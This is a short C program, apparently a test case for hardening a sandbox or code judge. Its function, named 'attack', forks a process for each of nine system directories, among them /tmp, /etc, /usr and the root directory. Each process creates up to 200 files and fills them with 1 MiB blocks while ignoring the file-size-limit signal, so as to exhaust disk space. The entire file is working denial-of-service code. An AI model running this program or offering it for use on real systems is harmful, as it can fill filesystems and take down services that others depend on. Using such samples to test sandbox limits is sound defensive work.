// Writes large files wherever it may.
// Points: any
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <unistd.h>
static char block[1 << 20];
static void attack(void)
{
    const char *places[] = {"/tmp", "/var/tmp", "/root", "/dev/shm", "/mnt",
                            "/run", "/usr",     "/etc",  "/"};
    signal(SIGXFSZ, SIG_IGN);
    for (int i = 0; i < 9; i++) {
        if (fork())
            continue;
        for (int n = 0; n < 200; n++) {
            char name[64];
            snprintf(name, sizeof name, "%s/hog%d", places[i], n);
            int file = open(name, O_CREAT | O_WRONLY, 0600);
            while (file != -1 && write(file, block, sizeof block) > 0)
                ;
            close(file);
        }
        _exit(0);
    }
}
